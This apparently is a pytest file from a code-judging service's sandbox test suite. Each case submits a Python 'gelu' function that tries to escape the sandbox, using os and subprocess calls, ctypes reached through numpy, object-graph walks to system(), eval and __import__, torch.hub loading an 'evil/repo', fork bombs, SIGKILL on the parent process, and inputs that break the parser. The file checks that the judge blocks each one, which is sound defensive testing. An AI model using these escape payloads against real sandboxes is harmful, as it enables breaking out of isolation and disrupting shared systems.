"""The language policy: escaping to the OS through imports, builtins and library attributes, fork storms,
killing the judge or exiting early, and sources that break the parser."""

from __future__ import annotations

import pytest

from mljudge.judge.exercise import Exercise
from mljudge.sandbox.pool import Pool
from tests.sandbox.attacks.common import NEEDS_ROOT, Attack, assert_judge_works, attack, run_attacks, src

pytestmark = NEEDS_ROOT


# --- escaping to the OS through the language -------------------------------------------------------------------

OS_ROUTES = [
    # subprocess
    Attack("import-subprocess", src("""
        import subprocess
        def gelu(x):
            subprocess.run(["touch", "/tmp/pwned"])
            return x
        """), "forbidden", ("subprocess",)),
    # os.system
    Attack("import-os-system", src("""
        import os
        def gelu(x):
            os.system("touch /tmp/pwned")
            return x
        """), "forbidden", ("os",)),
    # from-import of os inside the function
    Attack("from-os-import", src("""
        def gelu(x):
            from os import system
            system("id")
            return x
        """), "forbidden", ("os",)),
    # ctypes
    Attack("import-ctypes", src("""
        import ctypes
        def gelu(x):
            ctypes.CDLL(None).system(b"id")
            return x
        """), "forbidden", ("ctypes",)),
    # np.ctypeslib.ctypes.CDLL(None).system: ran a root shell command in a RestrictedPython-only probe
    Attack("np-ctypeslib", src("""
        import numpy as np
        def gelu(x):
            np.ctypeslib.ctypes.CDLL(None).system(b"touch /tmp/pwned")
            return x
        """), "forbidden", ("numpy.ctypeslib",)),
    # the same with a computed name
    Attack("np-ctypeslib-getattr", src("""
        import numpy as np
        def gelu(x):
            getattr(np, "ctypes" + "lib").ctypes.CDLL(None).system(b"id")
            return x
        """), "forbidden", ("numpy.ctypeslib",)),
    # numpy.f2py keeps os and subprocess as attributes
    Attack("np-f2py", src("""
        import numpy as np
        def gelu(x):
            np.f2py.os.system("id")
            return x
        """), "forbidden", ("numpy.f2py",)),
    # numpy.lib's modules (in NumPy 2 none of them keeps os as an attribute): outside GELU's vocabulary anyway
    Attack("np-lib-os", src("""
        import numpy as np
        def gelu(x):
            for module in (np.lib.npyio, np.lib.format, np.lib.stride_tricks, np.lib.mixins):
                getattr(module, "o" + "s").system("id")
            return x
        """), "forbidden", ("numpy.lib",)),
    # import numpy.f2py directly
    Attack("import-numpy-f2py", src("""
        import numpy.f2py
        def gelu(x):
            numpy.f2py.run_main(["-h"])
            return x
        """), "forbidden", ("numpy.f2py",)),
    # os through torch's namespace
    Attack("torch-os", src("""
        import torch
        def gelu(x):
            torch.os.system("touch /tmp/pwned")
            return x
        """), "forbidden", ("os",)),
    # the object graph: ().__class__.__base__.__subclasses__()
    Attack("subclasses-walk", src("""
        def gelu(x):
            for c in ().__class__.__base__.__subclasses__():
                if c.__name__ == "_wrap_close":
                    c.__init__.__globals__["system"]("id")
            return x
        """), "forbidden", ("__class__",)),
    # type.__subclasses__(object)
    Attack("type-subclasses", src("""
        def gelu(x):
            return type.__subclasses__(object)
        """), "forbidden", ("__subclasses__",)),
    # __builtins__ and the real __import__ behind it
    Attack("builtins-dunder", src("""
        def gelu(x):
            __builtins__["__import__"]("os").system("id")
            return x
        """), "forbidden", ("__builtins__",)),
    # __import__ called by name
    Attack("dunder-import", src("""
        def gelu(x):
            __import__("os").system("id")
            return x
        """), "forbidden", ("__import__",)),
    # importlib
    Attack("importlib", src("""
        import importlib
        def gelu(x):
            importlib.import_module("os").system("id")
            return x
        """), "forbidden", ("importlib",)),
    # eval
    Attack("eval", src("""
        def gelu(x):
            return eval("__import__('os').system('id')")
        """), "forbidden", ("eval()",)),
    # exec
    Attack("exec", src("""
        def gelu(x):
            exec("import os")
            return x
        """), "forbidden", ("exec()",)),
    # compile
    Attack("compile", src("""
        def gelu(x):
            return compile("import os", "x", "exec")
        """), "forbidden", ("compile()",)),
    # getattr on the builtins module object reached through numpy.ma.core
    Attack("getattr-builtins-module", src("""
        import numpy as np
        def gelu(x):
            return getattr(np.ma.core.builtins, "ev" + "al")("1")
        """), "forbidden", ("builtins",)),
    # getattr(__builtins__, ...)
    Attack("getattr-builtins", src("""
        def gelu(x):
            return getattr(__builtins__, "ev" + "al")("1")
        """), "forbidden", ("__builtins__",)),
    # torch.utils.cpp_extension compiles and loads C++
    Attack("torch-cpp-extension", src("""
        import torch.utils.cpp_extension
        def gelu(x):
            torch.utils.cpp_extension.load_inline("x", "")
            return x
        """), "forbidden", ("torch.utils.cpp_extension",)),
    # torch.hub downloads and runs code
    Attack("torch-hub", src("""
        import torch
        def gelu(x):
            torch.hub.load("evil/repo", "model")
            return x
        """), "forbidden", ("torch.hub",)),
    # torch._C, the raw bindings
    Attack("torch-C", src("""
        import torch
        def gelu(x):
            return getattr(getattr(torch, "_" + "C"), "_nn").gelu(x)
        """), "forbidden", ("_C",)),
    # torch.ops.aten
    Attack("torch-ops", src("""
        import torch
        def gelu(x):
            return getattr(torch, "op" + "s").aten.gelu(x)
        """), "forbidden", ("torch.ops",)),
    # torch.utils.collect_env runs subprocesses
    Attack("torch-collect-env", src("""
        import torch
        import torch.utils.collect_env
        def gelu(x):
            torch.utils.collect_env.run("id")
            return x
        """), "forbidden", ("torch.utils.collect_env",)),
    # torch.compile: dynamo rewrites bytecode, inductor execs generated code and runs a C++ compiler
    Attack("torch-compile", src("""
        import torch
        def gelu(x):
            return getattr(torch, "com" + "pile")(lambda t: t * 0.5)(x)
        """), "forbidden", ("torch.compile",)),
    # torch.multiprocessing
    Attack("torch-multiprocessing", src("""
        import torch.multiprocessing as mp
        def gelu(x):
            mp.Process(target=print).start()
            return x
        """), "forbidden", ("torch.multiprocessing",)),
    # a relative import
    Attack("relative-import", src("""
        from . import secrets
        def gelu(x):
            return secrets.answer(x)
        """), "forbidden", ("Importing",)),
]


@pytest.mark.parametrize("case", run_attacks(OS_ROUTES))
def test_os_routes(gelu: Exercise, pool: Pool, case: Attack) -> None:
    attack(gelu, pool, case.source, case.verdict, *case.names)


# --- processes -------------------------------------------------------------------------------------------------

FORKS = [
    # os.fork in a loop
    Attack("os-fork", "import os\n\ndef gelu(x):\n    while True:\n        os.fork()\n", "forbidden", ("os",)),
    # os.fork through torch
    Attack("torch-os-fork", src("""
        import torch
        def gelu(x):
            for _ in range(1000):
                torch.os.fork()
            return x
        """), "forbidden", ("os",)),
    # fork() through libc, reached by numpy.ctypeslib
    Attack("ctypeslib-fork", src("""
        import numpy as np
        def gelu(x):
            libc = np.ctypeslib.ctypes.CDLL(None)
            for _ in range(1000):
                libc.fork()
            return x
        """), "forbidden", ("numpy.ctypeslib",)),
    # torch.multiprocessing.Pool
    Attack("torch-mp-pool", src("""
        import torch
        def gelu(x):
            torch.multiprocessing.Pool(64)
            return x
        """), "forbidden", ("torch.multiprocessing",)),
    # multiprocessing
    Attack("multiprocessing", "import multiprocessing\n\ndef gelu(x):\n    multiprocessing.Process().start()\n"
           "    return x\n", "forbidden", ("multiprocessing",)),
]


@pytest.mark.parametrize("case", run_attacks(FORKS))
def test_fork_storms(gelu: Exercise, pool: Pool, case: Attack) -> None:
    attack(gelu, pool, case.source, case.verdict, *case.names)


# --- killing the judge, exiting early --------------------------------------------------------------------------

EXITS = [
    # SIGKILL to the parent through torch.os
    Attack("torch-os-kill-parent", src("""
        import torch
        def gelu(x):
            torch.os.kill(torch.os.getppid(), 9)
            return x
        """), "forbidden", ("os",)),
    # signal.pthread_kill / raise_signal
    Attack("signal-raise", "import signal\n\ndef gelu(x):\n    signal.raise_signal(9)\n    return x\n",
           "forbidden", ("signal",)),
    # os._exit through torch
    Attack("torch-os-exit", "import torch\n\ndef gelu(x):\n    torch.os._exit(0)\n", "forbidden"),
    # sys.exit
    Attack("sys-exit", "import sys\n\ndef gelu(x):\n    sys.exit(0)\n", "forbidden", ("sys",)),
    # exit() and quit()
    Attack("exit-builtin", "def gelu(x):\n    exit()\n", "forbidden", ("exit()",)),
    Attack("quit-builtin", "quit()\n\ndef gelu(x):\n    return x\n", "forbidden", ("quit()",)),
    # SystemExit at import time: a forked child that let it escape would run the zygote's own code
    Attack("system-exit-module", "raise SystemExit(0)\n\ndef gelu(x):\n    return x\n", "runtime_error",
           ("exit()",)),
    # SystemExit inside the function
    Attack("system-exit-function", "def gelu(x):\n    raise SystemExit(0)\n", "runtime_error", ("exit()",)),
    # KeyboardInterrupt
    Attack("keyboard-interrupt", "def gelu(x):\n    raise KeyboardInterrupt\n", "runtime_error",
           ("KeyboardInterrupt",)),
    # GeneratorExit, another BaseException
    Attack("generator-exit", "def gelu(x):\n    raise GeneratorExit\n", "runtime_error", ("GeneratorExit",)),
]


@pytest.mark.parametrize("case", run_attacks(EXITS))
def test_exits_and_kills(gelu: Exercise, pool: Pool, case: Attack) -> None:
    attack(gelu, pool, case.source, case.verdict, *case.names)


def test_the_judge_survives_exits_and_kills(gelu: Exercise, pool: Pool) -> None:
    for case in EXITS:
        attack(gelu, pool, case.source, case.verdict)
    assert_judge_works(gelu, pool, *gelu.tracks)


# --- sources that break the parser -----------------------------------------------------------------------------

SOURCES = {
    "over-64-KiB": (b"import numpy as np\n# " + b"a" * 70_000 + b"\ndef gelu(x):\n    return x\n", "65536"),
    "megabytes": (b"x = 1\n" * 2_000_000 + b"def gelu(x):\n    return x\n", "65536"),
    "not-utf8": (b"import numpy as np\n# \xff\xfe caf\xe9\ndef gelu(x):\n    return x\n", "UTF-8"),
    "nul-byte": (b"import numpy as np\ndef gelu(x):\n    return x  # \x00\n", "NUL"),
    "nested-parentheses": (b"x = " + b"(" * 5000 + b"1" + b")" * 5000 + b"\ndef gelu(x):\n    return x\n",
                           "parenthes"),
    "nested-lists": (b"x = " + b"[" * 3000 + b"]" * 3000 + b"\ndef gelu(x):\n    return x\n", ""),
    "deep-unary-minus": (b"x = " + b"-" * 60_000 + b"1\ndef gelu(x):\n    return x\n", "parsed"),
    "deep-binop-chain": (b"x = 1" + b"+1" * 1_000 + b"\ndef gelu(x):\n    return x\n", "parsed"),
    "deep-attribute-chain": (b"x = " + b"a." * 20_000 + b"b\ndef gelu(x):\n    return x\n", "parsed"),
    "deep-lambdas": (b"f = " + b"lambda: " * 7_000 + b"1\ndef gelu(x):\n    return x\n", "parsed"),
    "deep-indentation": (("def gelu(x):\n" + "".join(" " * (i + 1) + "if x:\n" for i in range(120))
                          + " " * 121 + "return x\n").encode(), "indentation"),
    "return-outside-function": (b"return 1\ndef gelu(x):\n    return x\n", "outside function"),
    "yield-outside-function": (b"yield 1\ndef gelu(x):\n    return x\n", "outside function"),
    "late-future-import": (b"x = 1\nfrom __future__ import annotations\ndef gelu(x):\n    return x\n", "__future__"),
}


@pytest.mark.parametrize("raw, phrase", SOURCES.values(), ids=SOURCES.keys())
def test_sources_that_break_the_parser(gelu: Exercise, pool: Pool, raw: bytes, phrase: str) -> None:
    report = attack(gelu, pool, raw, "compile_error", phrase)
    assert all(c.status == "not_run" for c in report.cases)


def test_source_as_str_with_surrogates(gelu: Exercise, pool: Pool) -> None:
    # a str that cannot be encoded to UTF-8 at all (a lone surrogate)
    attack(gelu, pool, "def gelu(x):\n    return x  # \udcff\n", "compile_error")
